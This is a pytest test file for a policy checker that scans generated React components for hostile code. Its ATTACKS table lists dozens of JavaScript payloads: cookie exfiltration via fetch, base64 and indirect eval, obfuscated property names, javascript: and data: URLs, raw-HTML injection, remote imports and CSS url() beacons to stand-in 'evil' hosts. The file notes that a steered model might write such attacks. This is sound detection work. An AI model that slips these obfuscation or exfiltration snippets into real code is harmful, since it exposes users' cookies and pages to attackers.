"""The code policy: attacks a steered model might write are found with the right rule and
place; every template's output, hostile inputs included, has no finding."""

from __future__ import annotations

import pytest

from core.spec import COMPONENT_TYPES
from tests.unit.workers.chain.quality.test_typecheck import varied_specs
from workers.chain.providers.template import TemplateProvider
from workers.chain.quality.policy import Allowances, check_files, check_source
from workers.chain.types import ChainContext

ATTACKS = {
    "cookie exfiltration": ('fetch("https://x/?c=" + document.cookie);', {"network", "document"}),
    "eval of base64": ('eval(atob("ZmV0Y2goJy8vZXZpbCcp"));', {"eval", "decoder"}),
    "indirect eval": ('(0, eval)("alert(1)");', {"eval"}),
    "window.eval": ('window.eval("alert(1)");', {"global-object"}),
    "split property name": ('const c = el["coo" + "kie"];', {"cookie"}),
    "split global name": ('window["fe" + "tch"]("//evil");', {"global-object"}),
    "template-literal name": ('globalThis[`ev${"al"}`]("1");', {"global-object"}),
    "const-folded name": ('const k = "coo"; const v = el[k + "kie"];', {"cookie"}),
    "joined name": ('const v = el[["inner", "HTML"].join("")];', {"html-injection"}),
    "escaped name": ('const v = el["\\x63ookie"];', {"cookie"}),
    "escaped identifier": ('\\u0065val("1");', {"escaped-identifier"}),
    "non-constant key on a global": ("const v = document[key];", {"computed-access"}),
    "decoded key": ("const v = el[decodeURIComponent(k)];", {"decoder", "computed-access"}),
    "char codes": ("const n = String.fromCharCode(101, 118, 97, 108);", {"global"}),
    "new Function": ('new Function("return fetch")();', {"eval"}),
    "constructor chain": ('({}).constructor.constructor("alert(1)")();', {"prototype"}),
    "destructured constructor": ("const { constructor: C } = [];", {"prototype"}),
    "string timer": ('setTimeout("alert(1)", 10);', {"timer-string"}),
    "value timer": ("setInterval(code, 10);", {"timer-string"}),
    "aliased timer": ('const t = setTimeout; t("alert(1)");', {"global"}),
    "dynamic import": ('import("https://evil/x.js");', {"dynamic-import"}),
    "remote import": ('import x from "https://evil/x.js";', {"import"}),
    "node import": ('import fs from "fs";', {"import"}),
    "re-export": ('export { x } from "lodash";', {"import"}),
    "require": ('const cp = require("child_process");', {"require"}),
    "import require": ('import cp = require("child_process");', {"syntax"}),
    "javascript href": ('const a = <a href="javascript:alert(1)">x</a>;', {"script-url"}),
    "concatenated href": ('const a = <a href={"java" + "script:alert(1)"}>x</a>;', {"script-url"}),
    "obfuscated scheme": ('const u = " JaVa\\tScRiPt:alert(1)";', {"script-url"}),
    "entity scheme": ('const a = <a href="&#106;avascript:alert(1)">x</a>;', {"script-url"}),
    "data html": ('const u = "data:text/html,<script>alert(1)</script>";', {"script-url"}),
    "dangerouslySetInnerHTML": (
        "const a = <div dangerouslySetInnerHTML={{ __html: h }} />;",
        {"html-injection"},
    ),
    "spread raw html": (
        "const a = <div {...{ dangerouslySetInnerHTML: h }} />;",
        {"html-injection", "jsx-spread"},
    ),
    "innerHTML": ("el.innerHTML = h;", {"html-injection"}),
    "assigned innerHTML": ("Object.assign(el, { innerHTML: h });", {"html-injection", "global"}),
    "computed key": ('const o = { ["inner" + "HTML"]: h };', {"html-injection"}),
    "inline handler": ('el.setAttribute("onclick", "alert(1)");', {"member"}),
    "document.write": ('document.write("<b>");', {"document"}),
    "sendBeacon": ('navigator.sendBeacon("/x", d);', {"navigator"}),
    "localStorage": ('localStorage.setItem("a", "b");', {"storage"}),
    "location assignment": ('window.location = "https://evil";', {"global-object"}),
    "location replace": ('location.replace("https://evil");', {"navigation"}),
    "href of location": ('el.location.href = "https://evil";', {"navigation", "url"}),
    "__proto__": ("el.__proto__.polluted = 1;", {"prototype"}),
    "prototype write": ("Array.prototype.map = f;", {"global"}),
    "defineProperty": ('Object.defineProperty(Object, "x", {});', {"global"}),
    "globalThis alias": ("const g = globalThis;", {"global-object"}),
    "document alias": ("const d = document;", {"document"}),
    "iframe srcDoc": ('const a = <iframe srcDoc="<b>x</b>" />;', {"jsx-element", "html-injection"}),
    "script element": ("const a = <script>{code}</script>;", {"jsx-element"}),
    "createElement script": ('R.createElement("script", null, c);', {"member"}),
    "createElement by key": ('R["create" + "Element"]("iframe");', {"member"}),
    "formAction": ('const a = <button formAction="/x">x</button>;', {"jsx-attribute"}),
    "remote img": ('const a = <img src="https://evil/x.png" />;', {"remote-resource"}),
    "protocol-relative img": ('const a = <img src={"//evil/x.png"} />;', {"remote-resource"}),
    "remote srcSet": (
        'const a = <img srcSet="a.png 1x, https://evil/b.png 2x" />;',
        {"remote-resource"},
    ),
    "css url": ('const s = { backgroundImage: "url(//evil)" };', {"css-resource"}),
    "css escape": ('const s = { background: "u\\\\72l(//evil)" };', {"css-resource"}),
    "css import": ("const css = \"@import 'https://evil/x.css';\";", {"css-resource"}),
    "style from a value": ("const a = <style>{props.css}</style>;", {"css-resource"}),
    "this": ("function f() { return this; }", {"syntax"}),
    "class": ("class X extends Y {}", {"syntax"}),
    "shadowed const": (
        'const k = "x";\nfunction C() { let k = "a"; const F = o[k][k]; }',
        {"computed-access"},
    ),
    "declared global": ("declare const fetch2: () => void;", {"syntax"}),
}


@pytest.mark.parametrize("source, rules", ATTACKS.values(), ids=list(ATTACKS))
def test_each_attack_is_found_with_its_rule(source: str, rules: set[str]) -> None:
    found = {f.rule for f in check_source(source, "component.tsx")}
    assert rules <= found, found


def test_a_finding_says_where() -> None:
    source = 'import React from "react";\n\nexport const x = 1;\n  fetch("//e");\n'
    [finding] = check_source(source, "component.tsx")
    assert (finding.rule, finding.file, finding.line, finding.column) == (
        "network",
        "component.tsx",
        4,
        3,
    )
    assert set(finding.as_dict()) == {"rule", "file", "line", "column", "detail"}


def in_component(body: str) -> str:
    """`body` as statements of a component that declares the names they use."""
    return (
        'import React from "react";\n'
        "export function Widget({ items, value, href }: { items: number[]; value: number; "
        "href?: string }): React.ReactElement {\n"
        "  const [shown, setShown] = React.useState(false);\n"
        f"{body}\n"
        "  return <div>{shown ? value : null}</div>;\n}\n"
    )


@pytest.mark.parametrize(
    "body",
    [
        '// fetch(document.cookie) in a comment\nconst s = "fetch(document.cookie)";',
        "const [open, setOpen] = React.useState(false);\nsetOpen(!open);",
        "function f(top: number): number { return top + 1; }",
        "React.useEffect(() => { const t = setTimeout(() => setShown(true), 10); "
        "return () => clearTimeout(t); }, []);",
        'const focus = (): void => { document.getElementById("tab-1")?.focus(); };',
        'const a = <a href="/docs#intro">docs</a>;',
        "const a = <a href={href}>docs</a>;",
        'const a = <a href={href ?? "mailto:team@example.com"}>mail</a>;',
        'const a = <img src="data:image/png;base64,AAAA" alt="" />;',
        "const next = Math.max(0, items.indexOf(value));",
        "const first = items[value];",
        "const labels = items.map(String).filter(Boolean);",
        'if (typeof window !== "undefined") { setShown(true); }',
    ],
)
def test_safe_code_passes(body: str) -> None:
    assert check_source(in_component(body), "component.tsx") == []


def test_document_is_not_read_while_rendering() -> None:
    source = in_component('const el = document.getElementById("x");')
    assert [f.rule for f in check_source(source, "component.tsx")] == ["document"]


def test_https_urls_need_an_allowed_host() -> None:
    source = in_component('const a = <a href="https://docs.example.com/x">docs</a>;')
    assert [f.rule for f in check_source(source, "component.tsx")] == ["url"]
    allow = Allowances(hosts=frozenset({"*.example.com"}))
    assert check_source(source, "component.tsx", allow=allow) == []


def test_packages_are_allowed_by_the_tenant() -> None:
    source = 'import { cva } from "class-variance-authority";\nimport x from "left-pad";\n'
    allow = Allowances(packages=frozenset({"class-variance-authority"}))
    assert [f.rule for f in check_source(source, "component.tsx", allow=allow)] == ["import"]
    assert [f.rule for f in check_source(source, "component.tsx", allow=Allowances())] == [
        "import",
        "import",
    ]


def test_a_local_name_does_not_hide_the_global_elsewhere() -> None:
    source = "function f(fetch: () => void): void { fetch(); }\nfetch('//evil');"
    findings = check_source(source, "component.tsx")
    assert [(f.rule, f.line) for f in findings] == [("network", 2)]


def test_every_template_output_has_no_finding() -> None:
    specs = varied_specs()
    assert {spec.component_type for spec in specs} == set(COMPONENT_TYPES)
    for spec in specs:
        ctx = ChainContext(spec=spec, tokens=spec.tokens)
        ctx.requirements = spec.requirements or TemplateProvider().propose_requirements(ctx)
        code = TemplateProvider().generate_code(ctx)
        files = {"component.tsx": code.component_tsx, "stories.tsx": code.stories_tsx}
        assert check_files(files) == [], spec.component_name


@pytest.mark.parametrize(
    "body, rule",
    [
        # props with a key built at run time handed to an element
        ('let k = "dangerouslySet";\nk += "InnerHTML";\n'
         'const c = React.cloneElement(<b />, { [k]: { __html: "<img>" } });', "computed-access"),
        ('const c = React.cloneElement(<b />, Object.fromEntries([["a", 1]]));', "jsx-spread"),
        # an attribute's value rewritten through its node
        ('const f = (el: HTMLAnchorElement): void => { el.attributes[0].value = "x"; };',
         "member"),
        # a URL property set in code, in the DOM's lower-case spelling
        ('const f = (el: HTMLImageElement): void => { el.srcset = "https://e/a 1x"; };', "url"),
        # CSS that loads a URL, its url( assembled at run time
        ('let u = "ur";\nu += "l(https://evil/?";\n'
         "const f = (el: HTMLElement): void => { el.style.backgroundImage = u + value; };",
         "css-resource"),
        ('let u = "ur";\nu += "l(//e/";\nconst s = { backgroundImage: u + ")" };', "css-resource"),
        ("const f = (el: HTMLElement): void => "
         '{ el.style.setProperty("background-image", String(value)); };', "css-resource"),
    ],
)  # fmt: skip
def test_props_and_css_built_at_run_time_are_refused(body: str, rule: str) -> None:
    assert rule in {f.rule for f in check_source(in_component(body), "component.tsx")}


@pytest.mark.parametrize(
    "body",
    [
        'const c = React.cloneElement(<b />, { className: "x", "aria-hidden": true });',
        'const s = { transform: `translateX(${value}px)`, background: "var(--cf-x)" };',
    ],
)
def test_constant_props_and_css_pass(body: str) -> None:
    assert check_source(in_component(body), "component.tsx") == []
